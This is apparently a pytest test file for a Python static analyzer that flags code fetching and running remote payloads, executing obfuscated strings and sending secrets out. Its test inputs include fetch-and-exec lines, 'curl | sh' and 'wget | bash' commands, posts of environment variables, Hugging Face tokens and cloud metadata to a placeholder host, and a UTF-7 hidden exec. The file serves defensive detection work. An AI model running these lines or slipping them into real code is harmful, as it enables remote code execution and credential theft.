"""Python source: what values flow where, and ordinary code that must stay silent."""

from __future__ import annotations

import ast
import textwrap

import pytest

from tests.analyzers.executable_events import findings, rows, rules
from weighbridge.formats.scripts.python_scopes import RunsWhen, python_scopes

HOST = "https://host.example.invalid"


def _rules(text: str) -> set[str]:
    return rules("code.py", textwrap.dedent(text))


def _when(text: str) -> dict[str, RunsWhen]:
    parts = python_scopes(ast.parse(textwrap.dedent(text)), lambda name: True)
    return {scope.name: scope.runs for scope in parts.scopes}


def test_parts_are_told_apart_by_what_makes_them_run() -> None:
    when = _when(
        """
        def early(): inner()
        def inner(): pass
        def late(): pass
        class Made:
            def __init__(self): pass
        early()
        if __name__ == "__main__":
            late()
        """
    )
    assert {name for name, runs in when.items() if runs is RunsWhen.IMPORTED} == {
        *("module level", "early", "inner")
    }
    assert when["main block"] is RunsWhen.STARTED
    assert when["late"] is RunsWhen.STARTED
    assert when["Made.__init__"] is RunsWhen.CALLED


@pytest.mark.parametrize(
    "text",
    [
        f"import requests\nexec(requests.get('{HOST}').text)",
        f"import requests as r\ncode = r.get('{HOST}').text\neval(compile(code, 'a', 'exec'))",
        f"from urllib.request import urlopen\nwith urlopen('{HOST}') as f:\n    exec(f.read())",
        f"import os\nos.system('curl -s {HOST} | sh')",
        f"__import__('os').popen('wget -qO- {HOST} | bash')",
        f"import subprocess, requests\nsubprocess.run(['bash', '-c', requests.get('{HOST}').text])",
        f"import ctypes, urllib.request as u\nu.urlretrieve('{HOST}', '/a.so')\nctypes.CDLL('/a.so')",
        f"import os, requests as r\nopen('a', 'wb').write(r.get('{HOST}').content)\nos.startfile('a')",
    ],
)
def test_what_is_fetched_and_run_is_told(text: str) -> None:
    assert "SCR002" in _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
        "exec(bytes.fromhex('7072696e74283129'))",
        "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))",
        "import marshal\nexec(marshal.loads(b'...'))",
        "import builtins, zlib\ngetattr(builtins, 'ex' + 'ec')(zlib.decompress(b'x'))",
    ],
)
def test_what_is_decoded_and_run_is_told(text: str) -> None:
    assert "SCR006" in _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        f"import os, requests\nrequests.post('{HOST}', json={{'e': dict(os.environ)}})",
        f"import os, requests\nrequests.post('{HOST}', data=os.environ['HF_TOKEN'])",
        f"import requests, huggingface_hub as h\nrequests.post('{HOST}', json=h.get_token())",
        "import requests\nt = requests.get('http://169.254.169.254/latest/').text\n"
        f"requests.post('{HOST}', data=t)",
    ],
)
def test_secrets_that_are_sent_are_told(text: str) -> None:
    assert "SCR003" in _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        f"import os, requests\nh = {{'A': os.environ['HF_TOKEN']}}\nrequests.post('{HOST}', headers=h)",
        "import os, subprocess as s\ndef run():\n    s.run(['ls'], env=dict(os.environ))",
        "import base64, json\nprint(json.loads(base64.b64decode('e30=')))\nexec('x = 1')",
        f"import urllib.request, subprocess\nurllib.request.urlretrieve('{HOST}', 'a.tar')\n"
        "def unpack():\n    subprocess.run(['tar', 'xf', 'a.tar'])",
        '"""Install: `curl https://host.example.invalid | sh`; never exec(requests.get(url).text)."""',
        "import pickle\nwith open('a.pkl', 'rb') as f:\n    pickle.load(f)",
        "text = '/dev/tcp/ and bash -i and ~/.ssh/id_rsa'",
        "import re\nPATTERN = re.compile(r'(curl|wget).*\\|\\s*(ba)?sh')",
        "import os\nopen(os.path.join('out', 'profile.txt'), 'w').write('x')",
    ],
)
def test_ordinary_code_is_no_more_than_low(text: str) -> None:
    assert _rules(text) <= {"SCR030"}


def test_a_program_started_at_import_is_medium_and_one_in_a_function_is_not_told() -> None:
    assert _rules("import subprocess\nsubprocess.run(['ls'])") == {"SCR008"}
    assert _rules("import subprocess\ndef run():\n    subprocess.run(['ls'])") == set()


def test_the_evidence_names_line_and_time() -> None:
    text = f"import requests\ndef load():\n    exec(requests.get('{HOST}').text)"
    (finding,) = findings("code.py", text)
    assert "line 3" in finding.evidence
    assert "load: when it is called" in finding.evidence


def test_source_in_utf_7_is_told_and_decoded() -> None:
    hidden = b"# coding: utf-7\n+AGUAeABlAGM-(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
    assert rules("code.py", hidden) == {"SCR011", "SCR006"}


def test_what_does_not_parse_is_read_by_its_words_and_opaque() -> None:
    text = "import os\nos.system('curl https://host.example.invalid | sh'\n{{ template }}\n"
    assert rows("code.py", text) == [("code.py", "python", "opaque")]


@pytest.mark.parametrize("text", ["x = " + "(" * 100 + "1" + ")" * 100, "x = 1, " * 120_000])
def test_source_that_is_too_deep_or_too_long_to_parse_is_limited(text: str) -> None:
    assert rows("code.py", text) == [("code.py", "python", "limited")]


def test_python_without_a_name_is_recognised_and_prose_is_not() -> None:
    assert rows("hook", "import os\n\ndef run():\n    return os.getcwd()\n")[0][1] == "python"
    assert rows("notes", "import what you like\nfrom here to there\n")[0][1] == "text"
    assert rows("run", "#!/usr/bin/env python3\nprint(1)\n")[0][1] == "python"


def test_source_beyond_the_limit_is_limited() -> None:
    text = "x = 1\n" * 400_000
    assert rows("code.py", text)[-1][2] == "limited"


def test_a_lambda_of_two_arguments_in_a_map_is_no_trouble() -> None:
    assert rows("code.py", "x = list(map(lambda a, b: a, [1]))\n") == [("code.py", "python", "analyzed")]
